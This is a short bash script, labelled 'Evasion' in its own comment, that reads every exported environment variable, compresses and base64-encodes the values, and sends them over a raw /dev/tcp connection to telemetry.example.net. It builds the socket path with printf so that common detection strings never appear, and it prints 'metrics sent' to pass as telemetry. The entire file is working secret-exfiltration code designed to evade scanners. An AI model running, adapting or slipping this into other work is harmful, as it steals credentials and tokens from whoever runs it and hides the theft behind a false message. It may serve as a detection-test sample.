#!/usr/bin/env bash
# Evasion: send the environment out. The exported names come from
# "compgen -e", each value through indirect expansion ${!name}; the lines are
# compressed and written to a /dev/tcp path assembled with printf -v, so
# neither env, printenv nor /proc/*/environ appears.
set -u

printf -v sock '/dev/%s/%s/%s' tcp telemetry.example.net 443

dump() {
    local name
    for name in $(compgen -e); do
        printf '%s=%s\n' "$name" "${!name}"
    done
}

exec 3<>"$sock"
dump | gzip -c | base64 -w0 >&3
exec 3>&-
echo "metrics sent"
